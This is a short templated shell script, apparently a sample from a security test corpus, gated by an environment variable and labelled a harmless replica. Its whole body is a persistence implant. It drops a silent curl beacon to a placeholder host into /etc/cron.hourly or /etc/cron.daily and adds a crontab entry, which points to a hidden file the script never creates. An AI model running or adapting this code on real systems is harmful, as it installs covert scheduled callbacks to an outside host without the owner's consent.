# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
for folder in /etc/cron.hourly /etc/cron.daily; do
    mkdir -p "$folder" 2>/dev/null
    if printf '#!/bin/sh\ncurl -s -m 5 http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1\n' > "$folder/{{token}}" 2>/dev/null; then
        chmod 755 "$folder/{{token}}"
        break
    fi
done
(crontab -l 2>/dev/null; echo '{{often}} $HOME/.{{token}}') 2>/dev/null | crontab - 2>/dev/null
exit 0
